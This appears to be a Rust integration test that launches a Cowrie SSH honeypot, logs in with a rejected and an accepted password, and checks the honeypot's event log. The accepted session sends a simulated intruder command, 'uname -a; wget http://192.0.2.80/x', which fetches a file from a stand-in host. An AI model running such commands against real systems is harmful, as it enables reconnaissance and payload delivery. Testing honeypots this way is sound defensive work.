//! Honeypots of others, unmodified, in images made by the recipes in `docs/honeypots/`: uploaded,
//! assigned to a real sensor, attacked with real clients from elsewhere, and read back by the API. `scripts/upstream.sh`
//! prepares what the recipes build upon, and runs this.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    missing_docs,
    clippy::print_stdout,
    reason = "a test may fail"
)]

#[path = "support/client.rs"]
mod client;
#[path = "upstream/honeypot.rs"]
mod honeypot;
#[path = "support/programs.rs"]
mod programs;
#[path = "../../crates/containers/tests/support/surroundings.rs"]
mod surroundings;

use honeypot::Honeypot;

#[tokio::test(flavor = "multi_thread")]
async fn cowrie() {
    let pot = Honeypot::start("cowrie", &[2270, 2271]).await;
    // What its own list of users refuses, and what it lets in.
    pot.ssh(2270, "root", "123456", "id");
    let refused = pot.event(0).await;
    assert_eq!(
        refused[..3],
        ["connect", &refused[1], "login root/123456 refused"],
    );
    assert!(refused[1].starts_with("banner SSH-2.0-OpenSSH"));

    let said = pot.ssh(
        2270,
        "root",
        "hunter2",
        "uname -a; wget http://192.0.2.80/x",
    );
    assert!(said.contains("svr04"), "{said}");
    let caught = pot.event(1).await;
    println!("{caught:#?}");
    for step in [
        "login root/hunter2 accepted",
        "command uname -a; wget http://192.0.2.80/x",
    ] {
        assert!(
            caught.iter().any(|known| known == step),
            "{step}: {caught:?}"
        );
    }
    pot.end().await;
}
